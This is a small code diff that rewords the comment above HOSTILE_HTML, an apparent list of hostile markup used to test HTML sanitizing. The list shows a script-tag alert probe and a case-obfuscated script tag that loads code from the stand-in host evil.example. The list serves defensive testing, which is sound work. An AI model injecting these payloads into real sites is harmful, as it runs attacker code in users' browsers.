@@ -1,4 +1,4 @@
-/** Markup that tries to run script, to load something or to break out of its place: each a known trick. */
+/** Known attacks that run scripts, load resources or escape their context. */
 export const HOSTILE_HTML: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
